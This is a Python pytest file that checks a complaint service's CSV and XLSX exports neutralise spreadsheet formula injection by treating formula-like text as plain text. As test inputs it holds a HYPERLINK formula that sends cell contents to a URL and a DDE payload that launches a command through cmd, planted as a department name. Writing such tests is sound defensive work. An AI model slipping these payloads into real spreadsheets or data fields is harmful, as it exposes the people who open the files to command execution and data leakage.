"""CSV/XLSX exports never carry a live formula (CWE-1236): text that a spreadsheet would evaluate stays text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from fastapi.testclient import TestClient

from api.exports import csv_stream, inert, xlsx_stream
from domain.values import Role
from tests.support import auth, client_for, receive_body

PAYLOAD = '=HYPERLINK("http://x"&A2,"点击")'
EVIL_DEPARTMENT = "+cmd|' /C calc'!A0"  # a department name in a tampered reference file
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
CLERK, OFFICER, LEADER = auth(Role.window_clerk), auth(Role.duty_officer), auth(Role.duty_leader)


def sheet_cells(xlsx: bytes) -> list[ET.Element]:
    """The first worksheet's cells, read from the OOXML file itself."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        root = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))  # noqa: S314 — our own export, not untrusted XML
    return root.findall(".//m:c", NS)


def text_of(cell: ET.Element) -> str:
    """A cell's text, with OOXML's ``_xHHHH_`` escapes (how a carriage return survives XML) decoded."""
    raw = "".join(t.text or "" for t in cell.iter(f"{{{NS['m']}}}t"))
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), raw)


def assert_inert_xlsx(xlsx: bytes, text: str) -> None:
    cells = sheet_cells(xlsx)
    assert not [c for c in cells if c.find("m:f", NS) is not None], "a formula cell"
    matching = [c for c in cells if text_of(c) == text]
    assert matching, f"{text!r} not in the sheet"
    assert all(c.get("t") in ("inlineStr", "s", "str") for c in matching)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    tmp = tmp_path_factory.mktemp("exports")
    reference = tmp / "reference.toml"
    reference.write_text(
        f'[departments]\nhousing = "住建"\nevil = "{EVIL_DEPARTMENT}"\n\n[categories]\nmarket_regulation = "市场监管"\n',
        encoding="utf-8",
    )
    with client_for(f"sqlite:///{tmp / 'yousu.db'}", reference_file=Path(reference)) as c:
        yield c


@pytest.fixture(scope="module")
def notification(client: TestClient) -> int:
    """A complaint dispatched with a formula for a supervisor, to a department whose name is a formula."""
    cid = client.post("/v1/complaints", json=receive_body(), headers=CLERK).json()["id"]
    client.post(f"/v1/complaints/{cid}/classify", json={"classification": "cannot_do"}, headers=CLERK)
    client.post(f"/v1/complaints/{cid}/sign", json={}, headers=OFFICER)
    client.post(f"/v1/complaints/{cid}/sign", json={}, headers=LEADER)
    r = client.post(
        f"/v1/complaints/{cid}/dispatch", json={"departments": ["evil"], "supervisor": PAYLOAD}, headers=LEADER
    )
    assert r.status_code == 200, r.text
    n: int = r.json()["notification_id"]
    return n


def get(client: TestClient, url: str, notification: int) -> Any:
    r = client.get(f"{url}&after={notification}", headers=auth(Role.analyst))
    assert r.status_code == 200, r.text
    return r


def test_ledger_csv_supervisor_formula_is_text(client: TestClient, notification: int) -> None:
    text = get(client, "/v1/ledger?format=csv", notification).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["督办专人"] for r in rows] == ["'" + PAYLOAD]
    assert rows[0]["承办部门"] == "'" + EVIL_DEPARTMENT


def test_ledger_xlsx_supervisor_formula_is_a_string(client: TestClient, notification: int) -> None:
    xlsx = get(client, "/v1/ledger?format=xlsx", notification).content
    assert_inert_xlsx(xlsx, PAYLOAD)
    assert_inert_xlsx(xlsx, EVIL_DEPARTMENT)


def test_metrics_exports_keep_formula_like_labels_as_text(client: TestClient, notification: int) -> None:
    url = "/v1/metrics?from=2000-01-01&to=2100-12-31&group_by=department"
    text = get(client, f"{url}&format=csv", notification).content.decode("utf-8-sig")
    labels = [r["分组"] for r in csv.DictReader(io.StringIO(text))]
    assert labels == ["'" + EVIL_DEPARTMENT]
    assert_inert_xlsx(get(client, f"{url}&format=xlsx", notification).content, EVIL_DEPARTMENT)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(lead: str) -> None:
    value = f"{lead}1+1"
    assert inert(value) == "'" + value
    csv_text = b"".join(csv_stream(["h"], [[value]])).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(csv_text[csv_text.index("\n") + 1 :])))[0] == "'" + value
    xlsx = b"".join(xlsx_stream("s", ["h"], [[value]]))
    assert_inert_xlsx(xlsx, value)


@pytest.mark.parametrize("value", ["张**", "2025-09-26 10:00", "已办结", "1", ""])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert inert(value) == value


def test_numbers_stay_numbers() -> None:
    assert inert(-5) == -5
    cells = sheet_cells(b"".join(xlsx_stream("s", ["h"], [[-5]])))
    number = [c for c in cells if c.get("r") == "A2"]
    assert number[0].get("t") is None  # a number cell, not a string
    assert number[0].find("m:v", NS).text == "-5"  # type: ignore[union-attr]
